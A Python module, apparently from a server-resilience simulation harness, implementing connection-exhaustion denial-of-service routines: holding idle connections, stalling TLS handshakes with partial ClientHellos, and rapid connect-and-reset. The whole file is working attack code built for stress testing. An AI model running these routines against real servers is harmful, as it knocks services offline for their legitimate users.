"""Attacks that exhaust connections: idle connections, unfinished TLS handshakes, rapid reconnection."""

from __future__ import annotations

import asyncio
from itertools import count

from sim.hostile import Access
from sim.hostile.client import connect, connection_pool
from wire.tls.context import client_hello


async def hoard(access: Access, every_s: float, connections: int) -> None:
    """Open a connection every `every_s` seconds, keep up to `connections` open, and send no request."""
    with connection_pool() as pool:
        while True:
            if len(pool) < connections and (connection := await connect(access)):
                pool.add(connection)
            await asyncio.sleep(every_s)


async def stall_handshakes(access: Access, every_s: float, connections: int) -> None:
    """Open connections as `hoard` does, without finishing a TLS handshake.

    The connections send nothing, the first half of the ClientHello, or all of it, in turn.
    """
    hello = client_hello(access.tls)
    beginnings = (b"", hello[: len(hello) // 2], hello)
    with connection_pool() as pool:
        for turn in count():
            if len(pool) < connections and (connection := await connect(access, secured=False)):
                connection.write(beginnings[turn % len(beginnings)])
                pool.add(connection)
            await asyncio.sleep(every_s)


async def reconnect(access: Access, every_s: float) -> None:
    """Connect every `every_s` seconds and reset the connection at once.

    In turn, the connection is reset after the TLS handshake, or after sending the ClientHello.
    """
    hello = client_hello(access.tls)
    for turn in count():
        if connection := await connect(access, secured=turn % 2 == 0):
            connection.write(hello if turn % 2 else b"")
            connection.abort()
        await asyncio.sleep(every_s)
